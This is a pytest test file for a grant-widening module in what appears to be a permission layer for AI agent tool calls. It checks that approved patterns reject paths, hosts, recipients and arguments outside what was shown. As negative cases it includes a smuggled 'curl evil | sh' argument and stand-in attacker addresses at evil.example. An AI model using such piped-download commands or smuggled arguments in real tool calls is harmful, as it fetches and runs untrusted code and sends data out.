"""A wider yes: built from roles, never wider than shown."""

from __future__ import annotations

from typing import Any

import pytest

from ironcurtain.escalation.grants import Pattern, origin_of, pattern_for
from ironcurtain.model.call import CanonicalCall, Principal, RoleValue
from ironcurtain.model.resolved import UNKNOWN, Address, Opaque, mint_command, mint_party, mint_path, mint_url
from ironcurtain.model.roles import Role


def path(text: str, *, crossings: tuple[int, ...] = (), shared: bool = False) -> Any:
    return mint_path(text, (), crossings, shared=shared)


def url(text: str) -> Any:
    return mint_url(text, Address("h.example"))


def party(text: str) -> Any:
    return mint_party(text, text.partition("@")[2])


def call(*values: tuple[str, str, Any], **arguments: Any) -> CanonicalCall:
    items = tuple(RoleValue(Role(role), leaf, value) for role, leaf, value in values)
    named = {leaf: "x" for _, leaf, _ in values}
    return CanonicalCall("s", "t", {**named, **arguments}, Principal("ann"), items, {}, ())


def built(made: CanonicalCall, *directories: str) -> Pattern | None:
    return pattern_for(made, lambda text: text in directories)


READ = call(("read-path", "path", path("/home/u/docs/a.txt")))


def test_a_file_widens_to_its_directory_and_a_directory_to_itself() -> None:
    pattern = built(READ)
    assert pattern is not None
    assert pattern.shown() == ["path (read-path): anywhere in /home/u/docs"]
    listing = built(call(("read-path", "path", path("/home/u/docs"))), "/home/u/docs")
    assert listing is not None
    assert listing.shown() == ["path (read-path): anywhere in /home/u/docs"]


@pytest.mark.parametrize(
    ("value", "role", "admitted"),
    [
        (path("/home/u/docs/b/c.txt"), "read-path", True),
        (path("/home/u/docs2/b"), "read-path", False),
        (path("/home/u"), "read-path", False),
        (path("/home/u/docs/b"), "write-path", False),
        (path("/home/u/docs/b", shared=True), "read-path", False),
        (path("/home/u/docs/m/b", crossings=(14,)), "read-path", False),
        (UNKNOWN, "read-path", False),
        (Opaque("/home/u/docs/b"), "read-path", False),
        ("/home/u/docs/b", "read-path", False),
        ("x", "unheard-of", False),
    ],
)
def test_only_what_lies_within_is_admitted(value: Any, role: str, admitted: bool) -> None:
    pattern = built(READ)
    assert pattern is not None
    assert pattern.admits(call((role, "path", value))) is admitted


def test_every_value_counts() -> None:
    pattern = built(READ)
    assert pattern is not None
    both = call(("read-path", "a", path("/home/u/docs/b")), ("read-path", "b", path("/etc/x")))
    assert not pattern.admits(both)


@pytest.mark.parametrize(
    "made",
    [
        call(),
        call(q="anything"),
        call(("identifier", "id", "7"), q="anything"),
        call(("read-path", "path", UNKNOWN)),
        call(("recipient", "to", Opaque("a; b"))),
        call(("delete-path", "path", path("/home/u/docs/a"))),
        call(("command", "command", mint_command("ls", ("ls",), plain=True, unreadable=False))),
        call(("send-url", "url", url("https://h.example/x"))),
        call(("account", "account", "main")),
    ],
)
def test_where_there_is_nothing_to_build_from_nothing_is_offered(made: CanonicalCall) -> None:
    assert built(made) is None


def test_a_message_widens_to_any_text_for_the_same_people() -> None:
    made = call(("recipient", "to", party("bob@x.example")), ("outbound-content", "text", "hello"))
    pattern = built(made)
    assert pattern is not None
    assert pattern.shown() == ["to (recipient): bob@x.example", "text: anything"]
    other = ("outbound-content", "text", "something else")
    assert pattern.admits(call(("recipient", "to", party("bob@x.example")), other))
    assert not pattern.admits(call(("recipient", "to", party("bob@x.example")), other, attachment="all.zip"))
    assert not pattern.admits(call(("recipient", "to", party("eve@x.example")), other))
    assert not pattern.admits(
        call(("recipient", "to", party("bob@x.example")), ("recipient", "cc", party("eve@x.example")))
    )


@pytest.mark.parametrize(
    ("text", "origin"),
    [
        ("https://h.example/a?b#c", "https://h.example"),
        ("https://h.example", "https://h.example"),
        ("https://h.example:8443/a", "https://h.example:8443"),
        ("http://h.example?x=/", "http://h.example"),
    ],
)
def test_an_address_widens_to_its_origin(text: str, origin: str) -> None:
    assert origin_of(url(text)) == origin
    pattern = built(call(("fetch-url", "url", url(text))))
    assert pattern is not None
    assert pattern.admits(call(("fetch-url", "url", url(origin + "/other"))))
    for elsewhere in ("https://h.example.evil/a", "https://other.example/", "ftp://h.example/a"):
        assert not pattern.admits(call(("fetch-url", "url", url(elsewhere))))


@pytest.mark.parametrize(("amount", "admitted"), [(5, True), (5.0, True), (6, False), (-1, False), ("5", False), (True, False)])  # fmt: skip
def test_an_amount_is_a_most(amount: Any, admitted: bool) -> None:
    pattern = built(call(("recipient", "to", party("bob@x.example")), ("amount", "sum", 5)))
    assert pattern is not None
    later = call(("recipient", "to", party("bob@x.example")), ("amount", "sum", amount))
    assert pattern.admits(later) is admitted


def test_one_and_its_text_are_two() -> None:
    pattern = built(call(("account", "account", 1), ("read-path", "path", path("/a/b"))))
    assert pattern is not None
    assert not pattern.admits(call(("account", "account", "1"), ("read-path", "path", path("/a/b"))))


def test_an_argument_that_nobody_saw_is_not_covered() -> None:
    pattern = built(call(("write-path", "path", path("/d/a")), mode="0644"))
    assert pattern is not None
    assert pattern.shown() == ["path (write-path): anywhere in /d", "mode: anything"]
    assert pattern.admits(call(("write-path", "path", path("/d/b")), mode="0600"))
    assert not pattern.admits(call(("write-path", "path", path("/d/b")), mode="0600", to="attacker@evil.example"))
    assert not pattern.admits(call(("write-path", "path", path("/d/b")), mode={"deep": "x"}))


def test_siblings_of_a_bound_argument_count() -> None:
    first = CanonicalCall("s", "t", {"opts": {"target": "/d/a"}}, Principal("ann"), (RoleValue(Role("write-path"), "opts.target", path("/d/a")),), {}, ())  # fmt: skip
    pattern = built(first)
    assert pattern is not None
    later = CanonicalCall("s", "t", {"opts": {"target": "/d/a", "exec": "curl evil | sh"}}, Principal("ann"), first.values, {}, ())  # fmt: skip
    assert not pattern.admits(later)


def test_bounds_are_for_their_own_argument() -> None:
    pattern = built(call(("account", "from", "SAVINGS"), ("account", "to", "LANDLORD"), ("amount", "sum", 100)))
    assert pattern is not None
    assert pattern.admits(call(("account", "from", "SAVINGS"), ("account", "to", "LANDLORD"), ("amount", "sum", 50)))
    assert not pattern.admits(
        call(("account", "from", "LANDLORD"), ("account", "to", "SAVINGS"), ("amount", "sum", 50))
    )


MODES = call(("write-path", "target", path("/home/u/docs/a")), kind="file", note="n")


@pytest.mark.parametrize(
    ("made", "admitted"),
    [
        (call(("write-path", "target", path("/home/u/docs/b")), kind="file", note="other"), True),
        (call(target="https://evil.example/x", kind="file", note="n"), False),
        (call(("identifier", "target", "x"), kind="file", note="n"), False),
        (call(("write-path", "target", path("/home/u/docs/b")), kind="url", note="n"), False),
        (call(("write-path", "target", path("/home/u/docs/b")), note="n"), False),
        (call(kind="file", note="only a note"), False),
    ],
    ids=["within", "its role is gone", "another role", "another mode", "no mode", "left out"],
)
def test_the_same_arguments_mean_the_same(made: CanonicalCall, admitted: bool) -> None:
    pattern = pattern_for(MODES, lambda _: False, frozenset({"kind"}))
    assert pattern is not None
    assert pattern.shown() == ["target (write-path): anywhere in /home/u/docs", 'kind: "file"', "note: anything"]
    assert pattern.admits(made) is admitted


def test_up_to_is_exact() -> None:
    pattern = built(call(("account", "to", "bob"), ("amount", "sum", 9007199254740995)))
    assert pattern is not None
    assert not pattern.admits(call(("account", "to", "bob"), ("amount", "sum", 9007199254740996)))
    assert pattern.admits(call(("account", "to", "bob"), ("amount", "sum", 9007199254740995)))


@pytest.mark.parametrize("amount", [0.1, 0.05, 19.99, 0.3, 7])
def test_a_grant_covers_its_own_call(amount: float) -> None:
    made = call(("account", "to", "bob"), ("amount", "sum", amount))
    pattern = built(made)
    assert pattern is not None
    assert pattern.admits(made)


def test_what_selects_inside_a_list_stays_as_it_was() -> None:
    def made(kind: str) -> CanonicalCall:
        value = RoleValue(Role("write-path"), "items[].target", path("/home/u/docs/a"))
        return CanonicalCall("s", "t", {"items": [{"kind": kind, "target": "x"}]}, Principal("ann"), (value,), {}, ())

    pattern = pattern_for(made("append"), lambda _: False, frozenset({"items[].kind"}))
    assert pattern is not None
    assert 'items[].kind: "append"' in pattern.shown()
    assert pattern.admits(made("append"))
    assert not pattern.admits(made("replace"))
